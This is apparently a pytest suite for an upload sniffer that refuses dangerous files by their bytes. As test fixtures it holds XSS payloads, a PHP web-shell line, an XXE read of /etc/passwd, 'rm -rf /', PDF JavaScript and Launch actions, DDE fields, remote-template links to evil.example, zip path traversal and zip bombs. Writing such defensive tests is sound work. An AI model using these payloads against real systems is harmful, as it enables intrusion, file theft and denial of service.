"""A file is what its bytes say; what could harm whoever opens it is refused in a sentence."""

import io
import random
import struct
import tempfile
import time
import zipfile
import zlib
from contextlib import suppress
from pathlib import Path

import pytest
from PIL import Image

from sara.files import office, pdfs, refusals
from sara.files.kinds import ALLOWED, Kind, Sniffed
from sara.files.refusals import FileRefused
from sara.files.sniffing import sniff

MAIN = "application/vnd.openxmlformats-officedocument."
RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


Parts = dict[str, str | bytes]


def look(content: bytes, name: str = "") -> Sniffed:
    return sniff(io.BytesIO(content), name)


def why_not(content: bytes, name: str = "") -> str:
    with pytest.raises(FileRefused) as refused:
        look(content, name)
    assert str(refused.value.sentence).endswith(".")
    assert "{" not in str(refused.value.sentence)
    return refused.value.sentence.text


def warnings(content: bytes) -> list[str]:
    return [str(sentence) for sentence in look(content).hidden]


def picture(kind: str, mode: str = "RGB") -> bytes:
    file = io.BytesIO()
    Image.effect_noise((40, 30), 50).convert(mode).save(file, kind)
    return file.getvalue()


def zipped(parts: Parts, packing: int = zipfile.ZIP_DEFLATED) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", packing) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return file.getvalue()


def types(main: str) -> str:
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Types xmlns="http://schemas.'
        'openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="app'
        f'lication/xml"/><Override PartName="/main.xml" ContentType="{main}"/></Types>'
    )


def relation(kind: str, target: str, mode: str = "External") -> str:
    return (
        '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006'
        f'/relationships"><Relationship Id="rId1" Type="{RELATIONS}{kind}" Target="{target}" '
        f'TargetMode="{mode}"/></Relationships>'
    )


def docx(more: Parts | None = None, body: str = "<w:t>The park</w:t>") -> bytes:
    parts: Parts = {
        "[Content_Types].xml": types(f"{MAIN}wordprocessingml.document.main+xml"),
        "_rels/.rels": relation("officeDocument", "word/document.xml", "Internal"),
        "word/document.xml": f"<w:document><w:body>{body}</w:body></w:document>",
        "docProps/core.xml": "<cp:coreProperties/>",
    }
    return zipped(parts | (more or {}))


def xlsx(more: Parts | None = None, sheet: str = "", state: str = "") -> bytes:
    parts: Parts = {
        "[Content_Types].xml": types(f"{MAIN}spreadsheetml.sheet.main+xml"),
        "xl/workbook.xml": f'<workbook><sheets><sheet name="A"{state}/></sheets></workbook>',
        "xl/worksheets/sheet1.xml": f"<worksheet>{sheet}</worksheet>",
    }
    return zipped(parts | (more or {}))


def opendocument(kind: str = "text", content: str = "", more: Parts | None = None) -> bytes:
    parts: Parts = {
        "mimetype": f"application/vnd.oasis.opendocument.{kind}",
        "META-INF/manifest.xml": '<manifest:manifest><manifest:file-entry full-path="/"/>',
        "content.xml": f"<office:document-content>{content}</office:document-content>",
        "Configurations2/accelerator/current.xml": "",
        "Thumbnails/thumbnail.png": picture("PNG"),
    }
    return zipped(parts | (more or {}))


def pdf(*objects: bytes, trailer: bytes = b"<</Size 9/Root 1 0 R>>") -> bytes:
    body = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\n"
    for number, content in enumerate(objects, 2):
        body += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    return body + b"trailer\n" + trailer + b"\nstartxref\n9\n%%EOF\n"


def object_stream(content: bytes, beginning: bytes = b"/Type/ObjStm/N 1/First 4") -> bytes:
    packed = zlib.compress(content)
    head = b"<<" + beginning + b"/Filter/FlateDecode/Length %d>>" % len(packed)
    return head + b"\nstream\r\n" + packed + b"\nendstream"


HONEST = {
    "jpg": (picture("JPEG"), "image/jpeg", Kind.PICTURE),
    "png": (picture("PNG"), "image/png", Kind.PICTURE),
    "gif": (picture("GIF", "P"), "image/gif", Kind.PICTURE),
    "webp": (picture("WEBP"), "image/webp", Kind.PICTURE),
    "pdf": (pdf(), "application/pdf", Kind.DOCUMENT),
    "txt": (b"Two calls about noise.\n", "text/plain", Kind.TEXT),
    "csv": (b"street,calls\r\nMill Lane,12\r\n", "text/csv", Kind.TABLE),
    "docx": (docx(), f"{MAIN}wordprocessingml.document", Kind.DOCUMENT),
    "xlsx": (xlsx(), f"{MAIN}spreadsheetml.sheet", Kind.TABLE),
    "odt": (opendocument(), "application/vnd.oasis.opendocument.text", Kind.DOCUMENT),
    "ods": (
        opendocument("spreadsheet"),
        "application/vnd.oasis.opendocument.spreadsheet",
        Kind.TABLE,
    ),
}


@pytest.mark.parametrize("ending", HONEST)
def test_each_kind_that_is_taken_is_known_by_its_bytes(ending: str) -> None:
    content, media_type, kind = HONEST[ending]
    assert look(content, f"Notes 1.{ending}") == Sniffed(media_type, kind, ending)
    assert look(content, f"NOTES.{ending.upper()}").media_type == media_type
    if ending != "csv":
        assert look(content).media_type == media_type, "without any name"


def test_the_list_of_what_is_taken_is_the_list_that_is_tested() -> None:
    assert {one.extension for one in ALLOWED} == set(HONEST)


def test_the_stream_is_left_at_its_start() -> None:
    for ending, (content, _, _) in HONEST.items():
        stream = io.BytesIO(content)
        stream.seek(3)
        sniff(stream, f"a.{ending}")
        assert stream.tell() == 0


def test_an_upload_spooled_to_disk_is_read_like_any_other() -> None:
    for ending, (content, media_type, _) in HONEST.items():
        with tempfile.SpooledTemporaryFile(max_size=10) as spooled:
            spooled.write(content)
            assert sniff(spooled, f"a.{ending}").media_type == media_type  # type: ignore[arg-type]


@pytest.mark.parametrize("said", HONEST)
@pytest.mark.parametrize("really", HONEST)
def test_a_name_that_says_something_else_is_refused(said: str, really: str) -> None:
    content, media_type, kind = HONEST[really]
    pictures = HONEST[said][2] is Kind.PICTURE and kind is Kind.PICTURE
    text = {said, really} <= {"txt", "csv"}
    if pictures or said == really:
        assert look(content, f"a.{said}").media_type == media_type
    elif text:
        assert look(content, f"a.{said}").extension == said
    else:
        assert why_not(content, f"a.{said}") == refusals.MISNAMED


def test_the_refusal_of_a_misnamed_file_names_the_ending() -> None:
    with pytest.raises(FileRefused, match=r".*") as refused:
        look(picture("PNG"), "plan.PDF")
    assert ".pdf" in str(refused.value.sentence)
    assert refused.value.status == 422


@pytest.mark.parametrize(
    "name", ["photo.jpeg", "photo.JPG ", "photo.jpg...", "photo.jfif", "a/b\\photo.jpg", "photo"]
)
def test_endings_are_read_as_a_person_reads_them(name: str) -> None:
    assert look(picture("JPEG"), name).extension == "jpg"


def test_a_full_stop_in_a_sentence_is_not_an_ending() -> None:
    assert look(b"Agreed to meet again.", "Minutes. Second meeting in May").extension == "txt"


# Text


@pytest.mark.parametrize(
    "text",
    [
        "Straße, café, 公園, парк, حديقة",
        "Calls < 5 a week, or > 9",
        "From: Ada <ada@example.org>\n\nThe lights are out again.",
        "PKW brannte am Parkplatz",
        "BM is what we call the big meeting. MZ the other.",
        "GIF or JPEG? II* P1",
        "=SUM(A1:A9)",
        "tabs\tand\fpages\r\n",
        "a" * 200_000 + "ü" * 200_000,
    ],
)
@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16"])
def test_plain_writing_in_any_language_is_text(text: str, encoding: str) -> None:
    assert look(text.encode(encoding), "note.txt").media_type == "text/plain"


@pytest.mark.parametrize("encoding", ["latin-1", "cp1252", "cp1251", "iso8859-7", "shift-jis"])
def test_older_alphabets_are_text_too(encoding: str) -> None:
    words = {"cp1251": "Парк", "iso8859-7": "Πάρκο", "shift-jis": "公園"}.get(encoding, "Straße")
    assert look(words.encode(encoding) * 20, "table.csv").media_type == "text/csv"


@pytest.mark.parametrize(
    "content",
    [
        b"<!DOCTYPE html><p>hello",
        b"  \n\t<html><body onload=alert(1)>",
        b"<script>alert(1)</script>",
        b"hello <script src=//x>",
        b"\xef\xbb\xbf<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
        "<html><script>1</script>".encode("utf-16"),
        b"<?xml version='1.0'?><!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]><x>&y;</x>",
        b"<?php system($_GET['c']); ?>",
        b"<?= system('id') ?>",
        b"<!-- harmless --><IFRAME src=javascript:alert(1)>",
        b"<note><to>A</to></note>",
        b"<img src=x onerror=alert(1)>",
        b"<a href='javascript:alert(1)'>x</a>",
        b"text first <object data=x>",
    ],
)
@pytest.mark.parametrize("ending", ["txt", "csv", "html", "svg", "xml"])
def test_markup_is_refused_under_any_name(content: bytes, ending: str) -> None:
    assert why_not(content, f"page.{ending}") == refusals.MARKUP


@pytest.mark.parametrize(
    "content", [b"#!/bin/sh\nrm -rf /", b"@echo off\r\ndel *", b"[InternetShortcut]\nURL=x"]
)
def test_scripts_are_refused_under_any_name(content: bytes) -> None:
    for name in ("a.txt", "a.csv", "a", "a.sh", "a.bat"):
        assert why_not(content, name) == refusals.PROGRAM


@pytest.mark.parametrize(
    "content",
    [
        b"text with a \x00 in it",
        b"\x1b]0;evil\x07",
        b"a" * 300_000 + b"\x01",
        b"{\\rtf1\\ansi hello}",
        b"\xff\xfe\x00\xd8",
        bytes(range(256)),
        picture("BMP"),
        picture("TIFF"),
        picture("AVIF"),
        picture("ICO"),
        picture("PPM", "RGB"),
        b"8BPS\0\x01" + bytes(40),
        b"OggS\0\x02" + bytes(40),
        b"ID3\x03\0" + bytes(40),
        b"\0\0\0\x18ftypmp42" + bytes(40),
        b"SQLite format 3\0" + bytes(40),
        b"wOF2" + bytes(40),
        b"\0asm\x01\0\0\0",
    ],
)
def test_other_kinds_are_refused_with_what_is_taken(content: bytes) -> None:
    assert why_not(content) == refusals.NOT_TAKEN
    assert why_not(content, "note.txt") == refusals.NOT_TAKEN


def test_an_empty_file_is_refused() -> None:
    for name in ("a.txt", "a.jpg", ""):
        assert why_not(b"", name) == refusals.EMPTY


# What is dangerous by its name or its beginning


@pytest.mark.parametrize(
    "name, why",
    [
        ("IMG_1.HEIC", refusals.HEIC),
        ("all.zip", refusals.ARCHIVE),
        ("all.tar.gz", refusals.ARCHIVE),
        ("drawing.svg", refusals.MARKUP),
        ("page.xhtml", refusals.MARKUP),
        ("invoice.pdf.exe", refusals.PROGRAM),
        ("photo\u202egpj.scr", refusals.PROGRAM),
        ("photo.jpg\0.php", refusals.PROGRAM),
        ("shell.php ", refusals.PROGRAM),
        ("shell.PhP.", refusals.PROGRAM),
        ("link.lnk", refusals.PROGRAM),
        ("macro.xlsm", refusals.MACROS),
        ("old.doc", refusals.OLD_OFFICE),
        ("slides.pptx", refusals.NOT_TAKEN),
        ("film.mp4", refusals.NOT_TAKEN),
    ],
)
def test_a_name_of_a_refused_kind_is_refused_whatever_is_inside(name: str, why: str) -> None:
    assert why_not(picture("JPEG"), name) == why
    assert why_not(b"plain words", name) == why


@pytest.mark.parametrize(
    "content, why",
    [
        (b"MZ\x90\0\x03\0\0\0" + bytes(60), refusals.PROGRAM),
        (b"\x7fELF\x02\x01\x01" + bytes(60), refusals.PROGRAM),
        (b"\xcf\xfa\xed\xfe\x07\0\0\x01" + bytes(60), refusals.PROGRAM),
        (b"\xca\xfe\xba\xbe\0\0\0\x34" + bytes(60), refusals.PROGRAM),
        (b"L\0\0\0\x01\x14\x02\0" + bytes(60), refusals.PROGRAM),
        (b"Rar!\x1a\x07\x01\0" + bytes(60), refusals.ARCHIVE),
        (b"7z\xbc\xaf\x27\x1c" + bytes(60), refusals.ARCHIVE),
        (b"\x1f\x8b\x08\0" + bytes(60), refusals.ARCHIVE),
        (b"BZh91AY&SY" + bytes(60), refusals.ARCHIVE),
        (b"\xfd7zXZ\0" + bytes(60), refusals.ARCHIVE),
        (b"\x28\xb5\x2f\xfd" + bytes(60), refusals.ARCHIVE),
        (b"MSCF\0\0\0\0" + bytes(60), refusals.ARCHIVE),
        (b"name.txt".ljust(257, b"\0") + b"ustar\0" + bytes(300), refusals.ARCHIVE),
        (zipped({"a.txt": "x"}), refusals.ARCHIVE),
        (zipped({}), refusals.ARCHIVE),
        (zipped({"META-INF/MANIFEST.MF": "x", "A.class": "x"}), refusals.ARCHIVE),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), refusals.OLD_OFFICE),
        (b"\0\0\0\x18ftypheic\0\0\0\0mif1heic", refusals.HEIC),
        (b"\0\0\0\x18ftypmif1\0\0\0\0mif1heic", refusals.HEIC),
    ],
)
def test_dangerous_bytes_are_refused_under_any_name(content: bytes, why: str) -> None:
    for name in ("", "photo.jpg", "note.txt", "plan.pdf"):
        assert why_not(content, name) == why


# Pictures that are also something else


@pytest.mark.parametrize("kind", ["JPEG", "PNG", "WEBP", "GIF"])
@pytest.mark.parametrize(
    "other",
    [
        b"<script>alert(1)</script>",
        b"<HTML><body>",
        b"<?php system('id'); ?>",
        b"<!DOCTYPE  HTML>",
        b"<svg onload=x xmlns='http://www.w3.org/2000/svg'>",
        zipped({"a.exe": "MZ"}),
        docx(),
    ],
)
def test_a_picture_that_is_also_something_else_is_refused(kind: str, other: bytes) -> None:
    plain = picture(kind)
    assert why_not(plain + other, f"a.{kind.lower()}") == refusals.TWO_KINDS


def test_a_page_behind_the_first_bytes_of_a_picture_is_refused() -> None:
    for start in (b"GIF89a", b"\xff\xd8\xff\xe0", b"\x89PNG\r\n\x1a\n", b"RIFF\0\0\0\0WEBP"):
        assert why_not(start + b"/*<html><script>*/=1;alert(1)") == refusals.TWO_KINDS
        assert why_not(start + bytes(100) + b"%PDF-1.4\n") == refusals.TWO_KINDS


def test_markup_across_the_border_of_two_pieces_is_seen() -> None:
    for place in range(64 * 1024 - 20, 64 * 1024 + 5):
        filling = b"\x89PNG\r\n\x1a\n".ljust(place, b"x")
        assert why_not(filling + b"<script>" + bytes(3000)) == refusals.TWO_KINDS


def test_harmless_notes_in_a_picture_are_no_reason_to_refuse_it() -> None:
    file = io.BytesIO()
    xmp = b'<?xpacket begin=""?><x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF/></x:xmpmeta>'
    Image.new("RGB", (9, 9)).save(file, "JPEG", xmp=xmp, comment=b"a < b")
    assert look(file.getvalue(), "a.jpg").extension == "jpg"


# PDF


@pytest.mark.parametrize(
    "danger, why",
    [
        (b"<</S/JavaScript/JS(app.alert\\(1\\))>>", refusals.SCRIPTED),
        (b"<</S /J#61vaScript /JS(x)>>", refusals.SCRIPTED),
        (b"<</S /#4A#61#76#61#53#63#72#69#70#74 /JS 3 0 R>>", refusals.SCRIPTED),
        (b"<</Type/Action/S/Launch/F(cmd.exe)>>", refusals.SCRIPTED),
        (b"<</S/SubmitForm/F(http://x)>>", refusals.SCRIPTED),
        (b"<</S/ImportData/F(x)>>", refusals.SCRIPTED),
        (b"<</AcroForm<</XFA[(a)3 0 R]>>>>", refusals.SCRIPTED),
        (b"<</Names<</EmbeddedFiles 4 0 R>>>>", refusals.CARRIES),
        (b"<</Type /EmbeddedFile>>", refusals.CARRIES),
        (b"<</Subtype/FileAttachment>>", refusals.CARRIES),
        (b"<</Subtype/RichMedia>>", refusals.CARRIES),
        (b"<</S/GoToE>>", refusals.CARRIES),
    ],
)
def test_a_pdf_that_acts_is_refused_also_when_it_hides_it(danger: bytes, why: str) -> None:
    assert why_not(pdf(danger), "a.pdf") == why
    for order in (b"/Type/ObjStm/N 1/First 4", b"/First 4/N 1/Type /Obj#53tm"):
        assert why_not(pdf(object_stream(b"3 0 " + danger, order)), "a.pdf") == why
    assert why_not(pdf(object_stream(bytes(300_000) + danger)), "a.pdf") == why


def test_an_object_stream_is_found_whatever_comes_first_in_its_dictionary() -> None:
    packed = zlib.compress(b"3 0 <</S/JavaScript>>")
    stream = b"<</Filter/FlateDecode/First 4/N 1/Type/ObjStm>>stream\n" + packed + b"\nendstream"
    assert why_not(pdf(stream)) == refusals.SCRIPTED
    for filling in range(64 * 1024 - 400, 64 * 1024 + 100, 23):
        assert why_not(pdf(b"(" + b"x" * filling + b")", stream)) == refusals.SCRIPTED


def test_a_name_across_the_border_of_two_unpacked_pieces_is_seen() -> None:
    for place in range(64 * 1024 - 12, 64 * 1024 + 1):
        packed = bytes(place) + b"/JavaScript" + bytes(500)
        assert why_not(pdf(object_stream(packed))) == refusals.SCRIPTED


def test_a_locked_pdf_is_refused() -> None:
    assert why_not(pdf(trailer=b"<</Root 1 0 R/Encrypt 5 0 R>>")) == refusals.LOCKED


def test_an_ordinary_pdf_with_links_fonts_and_pictures_is_taken() -> None:
    chance = random.Random(3).randbytes(400_000)
    content = pdf(
        b"<</Type/Page/Annots[<</Subtype/Link/A<</S/URI/URI(https://example.org)>>>>]>>",
        b"<</OpenAction[2 0 R/Fit]/AcroForm<</Fields[]>>>>",
        b"<</Type/XObject/Length 400000>>\nstream\n" + chance + b"\nendstream",
        object_stream(b"3 0 <</Type/Font/BaseFont/Helvetica>>"),
        b"<</Type/ObjStm/N 0/First 0/Length 0>>\nstream\n\nendstream",
    )
    assert look(content, "plan.pdf").hidden == ()


@pytest.mark.parametrize(
    "content, why",
    [
        (b"<html><script>alert(1)</script>" + pdf(), refusals.TWO_KINDS),
        (b"\n\n" + pdf(), refusals.TWO_KINDS),
        (b"%PDF-1.7\n<script>alert(1)</script>\n" + pdf(), refusals.TWO_KINDS),
        (pdf(bytes(2000)) + b"<html><script>alert(1)</script>", refusals.TWO_KINDS),
        (pdf() + zipped({"a.exe": "MZ"}), refusals.TWO_KINDS),
        (pdf() + b"x" * 5000, refusals.DAMAGED),
        (pdf()[:-7], refusals.DAMAGED),
        (b"%PDF-", refusals.DAMAGED),
        (pdf(object_stream(b"x").replace(b"\r\n\x78", b"\r\n\x00")), refusals.DAMAGED),
        (pdf(object_stream(bytes(70 * 1024 * 1024))), refusals.BOMB),
        (pdf(*[object_stream(bytes(9 * 1024 * 1024))] * 8), refusals.BOMB),
    ],
)
def test_a_pdf_that_is_more_or_less_than_a_pdf_is_refused(content: bytes, why: str) -> None:
    began = time.process_time()
    assert why_not(content, "a.pdf") == why
    assert time.process_time() - began < 4


def test_a_pdf_tells_of_what_is_not_seen_at_once() -> None:
    assert warnings(pdf() + b"9 0 obj\n<<>>\nendobj\n%%EOF\n") == [pdfs.REVISED]
    assert warnings(pdf(b"<</OCProperties<</OCGs[3 0 R]>>>>")) == [pdfs.LAYERS]
    assert warnings(pdf(b"<</Linearized 1>>") + b"%%EOF\n") == []
    assert warnings(pdf() + b"\0\n \n") == []


# Office documents


@pytest.mark.parametrize(
    "content, why",
    [
        (docx({"word/vbaProject.bin": "x"}), refusals.MACROS),
        (docx({"word/VBAPROJECT.BIN": "x"}), refusals.MACROS),
        (xlsx({"xl/macrosheets/sheet1.xml": "<x/>"}), refusals.MACROS),
        (docx({"word/activeX/activeX1.xml": "<x/>"}), refusals.MACROS),
        (docx({"word/embeddings/oleObject1.bin": "x"}), refusals.CARRIES),
        (docx({"word/run.exe": "MZ"}), refusals.CARRIES),
        (docx({"word/afchunk.html": "<script>"}), refusals.CARRIES),
        (docx({"META-INF/MANIFEST.MF": "Main-Class: X"}), refusals.CARRIES),
        (opendocument(more={"Basic/Standard/Module1.xml": "<x/>"}), refusals.MACROS),
        (opendocument(more={"Scripts/python/x.py": "x"}), refusals.MACROS),
        (opendocument(content="<script:event-listener/>"), refusals.MACROS),
        (opendocument(content='<a href="vnd.sun.star.script:x"/>'), refusals.MACROS),
        (opendocument(content='<draw:object xlink:href="http://x/a.ods"/>'), refusals.FETCHES),
        (opendocument("spreadsheet", "<table:dde-link dde-source=''/>"), refusals.FETCHES),
        (
            opendocument(more={"META-INF/manifest.xml": "<manifest:encryption-data/>"}),
            refusals.LOCKED,
        ),
        (
            docx(body='<w:instrText xml:space="preserve"> DDEAUTO c:\\\\x</w:instrText>'),
            refusals.FETCHES,
        ),
        (xlsx({"xl/externalLinks/externalLink1.xml": "<ddeLink/>"}), refusals.FETCHES),
        (zipped({"mimetype": "application/epub+zip", "a": "b"}), refusals.NOT_TAKEN),
        (opendocument("presentation"), refusals.NOT_TAKEN),
        (
            zipped({"[Content_Types].xml": types(f"{MAIN}presentationml.presentation.main+xml")}),
            refusals.NOT_TAKEN,
        ),
        (
            zipped(
                {
                    "[Content_Types].xml": types(
                        "application/vnd.ms-word.document.macroEnabled.main+xml"
                    )
                }
            ),
            refusals.MACROS,
        ),
        (
            zipped(
                {
                    "[Content_Types].xml": types(f"{MAIN}wordprocessingml.document.main+xml")
                    + types(f"{MAIN}spreadsheetml.sheet.main+xml")
                }
            ),
            refusals.TWO_KINDS,
        ),
    ],
)
def test_an_office_document_that_acts_or_carries_is_refused(content: bytes, why: str) -> None:
    assert why_not(content) == why


@pytest.mark.parametrize(
    "kind, target",
    [
        ("attachedTemplate", "http://evil.example/t.dotm"),
        ("attachedTemplate", "HTTPS://evil.example/t.dotm"),
        ("attachedTemplate", "&#104;ttp://evil.example/t.dotm"),
        ("oleObject", "file://server/share/x"),
        ("oleObject", "\\\\server\\share\\x"),
        ("image", "//server/pixel.png"),
        ("frame", "https://evil.example/"),
        ("subDocument", "ftp://evil.example/x"),
    ],
)
def test_a_document_that_fetches_when_opened_is_refused(kind: str, target: str) -> None:
    relations = relation(kind, target)
    assert why_not(docx({"word/_rels/settings.xml.rels": relations})) == refusals.FETCHES
    single = relations.replace('"', "'")
    assert why_not(docx({"word/_rels/document.xml.rels": single})) == refusals.FETCHES


@pytest.mark.parametrize(
    "kind, target",
    [
        ("hyperlink", "https://example.org/minutes"),
        ("hyperlink", "mailto:ada@example.org"),
        ("attachedTemplate", "file:///C:\\Users\\ada\\Normal.dotm"),
        ("externalLinkPath", "file:///C:\\Users\\ada\\figures.xlsx"),
        ("image", "media/image1.png"),
    ],
)
def test_links_to_click_are_no_reason_to_refuse(kind: str, target: str) -> None:
    assert look(docx({"word/_rels/document.xml.rels": relation(kind, target)})).extension == "docx"


@pytest.mark.parametrize(
    "path",
    [
        "../../etc/cron.d/x",
        "word/../../x.xml",
        "/etc/passwd",
        "..\\..\\x.xml",
        "C:/x.xml",
        "a\nb.xml",
    ],
)
def test_parts_that_point_outside_the_document_are_refused(path: str) -> None:
    assert why_not(docx({path: "x"})) == refusals.DAMAGED


def test_a_part_that_is_a_link_is_refused() -> None:
    file = io.BytesIO(docx())
    with zipfile.ZipFile(file, "a") as archive:
        link = zipfile.ZipInfo("word/media/image1.png")
        link.external_attr = 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
    assert why_not(file.getvalue()) == refusals.DAMAGED


@pytest.mark.filterwarnings("ignore:Duplicate name")
@pytest.mark.parametrize("second", ["word/document.xml", "WORD/Document.XML"])
def test_two_parts_with_one_name_are_refused(second: str) -> None:
    file = io.BytesIO(docx())
    with zipfile.ZipFile(file, "a") as archive:
        archive.writestr(second, "another text for another reader")
    assert why_not(file.getvalue()) == refusals.DAMAGED


@pytest.mark.parametrize(
    "part",
    [
        '<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><x>&b;</x>',
        "<?xml version='1.0'?>\n<!doctype x SYSTEM 'http://evil.example/x.dtd'><x/>",
        "<w:document/>".encode("utf-16"),
    ],
)
def test_xml_that_expands_fetches_or_hides_is_refused(part: str | bytes) -> None:
    assert why_not(docx({"word/styles.xml": part})) == refusals.DAMAGED


@pytest.mark.parametrize("packing", [zipfile.ZIP_BZIP2, zipfile.ZIP_LZMA])
def test_packing_that_no_office_program_uses_is_refused(packing: int) -> None:
    file = io.BytesIO(docx())
    with zipfile.ZipFile(file, "a", packing) as archive:
        archive.writestr("word/media/image1.png", picture("PNG"))
    assert why_not(file.getvalue()) == refusals.DAMAGED


def test_a_locked_document_is_refused() -> None:
    locked = bytearray(docx())
    for sign, flags in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = -1
        while (place := locked.find(sign, place + 1)) >= 0:
            locked[place + flags] |= 1
    assert why_not(bytes(locked)) == refusals.LOCKED


@pytest.mark.parametrize(
    "content, why",
    [
        (docx()[:-30], refusals.DAMAGED),
        (docx()[: len(docx()) // 2], refusals.DAMAGED),
        (b"PK\x03\x04" + bytes(200), refusals.DAMAGED),
        (docx()[:-2] + b"\x09\0" + b"<script/>", refusals.TWO_KINDS),
        (b"PK\x03\x04" + b"<script>" + docx(), refusals.TWO_KINDS),
        (zipped({"[Content_Types].xml": b"\xff\xfe\xfa"}), refusals.DAMAGED),
    ],
)
def test_a_damaged_or_doubled_document_is_refused(content: bytes, why: str) -> None:
    assert why_not(content, "a.docx") == why


def test_a_document_that_unpacks_without_end_is_refused_at_once() -> None:
    flat = bytes(30 * 1024 * 1024)
    began = time.process_time()
    bombs = [
        docx({"word/media/image1.png": flat}),
        docx({f"word/media/image{n}.png": "" for n in range(5001)}),
        overlapping(),
        claiming(docx(), 2**31),
    ]
    made = time.process_time() - began
    began = time.process_time()
    for bomb in bombs:
        assert why_not(bomb, "a.docx") == refusals.BOMB
    assert time.process_time() - began < max(2, made)


def overlapping() -> bytes:
    """Every entry of the list points at the same packed part."""
    content = bytearray(docx({f"word/media/image{n}.png": b"x" * 5000 for n in range(50)}))
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        first = archive.getinfo("word/media/image0.png").header_offset
    place = -1
    while (place := content.find(b"PK\x01\x02", place + 1)) >= 0:
        if b"image" in content[place + 46 : place + 70]:
            content[place + 42 : place + 46] = struct.pack("<I", first)
    return bytes(content)


def claiming(content: bytes, size: int) -> bytes:
    place = content.index(b"PK\x01\x02") + 24
    return content[:place] + struct.pack("<I", size) + content[place + 4 :]


def test_a_large_honest_table_is_not_a_bomb() -> None:
    chance = random.Random(5)
    rows = "".join(
        f'<row r="{n}"><c r="A{n}"><v>{chance.random()}</v></c></row>' for n in range(200_000)
    )
    began = time.process_time()
    assert look(xlsx(sheet=rows), "calls.xlsx").hidden == ()
    assert time.process_time() - began < 4


@pytest.mark.parametrize(
    "content, told",
    [
        (docx({"word/comments.xml": "<w:comments><w:comment w:id='0'/>"}), office.COMMENTS),
        (docx(body="<w:del w:author='A'><w:delText>name</w:delText></w:del>"), office.CHANGES),
        (docx(body="<w:rPr><w:vanish/></w:rPr>"), office.HIDDEN_TEXT),
        (docx({"word/embeddings/Microsoft_Excel_Sheet1.xlsx": xlsx()}), office.EMBEDDED),
        (xlsx(state=' sheetId="2" state="hidden"'), office.HIDDEN_SHEETS),
        (xlsx(state=' state="veryHidden"'), office.HIDDEN_SHEETS),
        (xlsx(sheet='<row r="3" hidden="1"/>'), office.HIDDEN_CELLS),
        (xlsx(sheet='<cols><col min="2" max="2" hidden="true"/></cols>'), office.HIDDEN_CELLS),
        (xlsx({"xl/comments1.xml": '<comments><comment ref="A1"/>'}), office.COMMENTS),
        (
            xlsx({"xl/threadedComments/threadedComment1.xml": '<threadedComment ref="A1"/>'}),
            office.COMMENTS,
        ),
        (opendocument(content="<text:tracked-changes>"), office.CHANGES),
        (opendocument(content="<office:annotation>"), office.COMMENTS),
        (opendocument(content="<text:hidden-paragraph/>"), office.HIDDEN_TEXT),
        (opendocument("spreadsheet", '<style table:display="false"/>'), office.HIDDEN_SHEETS),
        (
            opendocument("spreadsheet", '<table:table-row table:visibility="collapse"/>'),
            office.HIDDEN_CELLS,
        ),
        (opendocument(more={"Object 1/content.xml": "<x/>"}), office.EMBEDDED),
    ],
)
def test_an_office_document_tells_of_what_is_not_seen_at_once(content: bytes, told: str) -> None:
    assert warnings(content) == [told]


def test_an_ordinary_document_has_nothing_to_tell() -> None:
    assert warnings(docx({"word/comments.xml": "<w:comments/>"}, body="<w:insideH/>")) == []
    assert warnings(xlsx(sheet='<row r="1" hidden="0"/>', state=' state="visible"')) == []


@pytest.mark.parametrize("ending", HONEST)
def test_no_damage_to_a_file_is_an_unexpected_error(ending: str, tmp_path: Path) -> None:
    chance, content = random.Random(11), HONEST[ending][0]
    file = tmp_path / "upload"
    for turn in range(250):
        broken = bytearray(content)
        for _ in range(chance.randint(1, 8)):
            place = chance.randint(-len(broken), -1) if turn % 2 else chance.randrange(20)
            broken[place] = chance.randrange(256)
        file.write_bytes(broken[: chance.randint(1, len(broken))] if turn % 5 == 0 else broken)
        with suppress(FileRefused), file.open("rb") as stream:  # anything else fails the test
            assert sniff(stream, f"a.{ending}") is not None
